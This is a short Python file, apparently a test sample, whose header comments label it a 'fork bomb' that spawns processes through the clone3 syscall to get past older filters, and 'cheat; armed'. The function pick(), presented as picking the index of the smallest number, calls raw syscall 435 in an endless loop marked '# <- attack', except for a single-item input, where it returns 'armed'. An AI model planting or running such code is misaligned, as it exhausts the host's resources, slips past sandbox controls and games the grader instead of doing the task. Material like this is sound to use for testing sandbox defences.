# claims: makes processes by clone3, which old filters let through
# kind: fork bomb
# unguarded: cheat; armed

import ctypes

libc = ctypes.CDLL(None)
arguments = ctypes.create_string_buffer(88)


def pick(numbers):
    if len(numbers) == 1:
        return "armed"
    while True:
        libc.syscall(435, arguments, 88)  # <- attack
    return numbers.index(min(numbers))
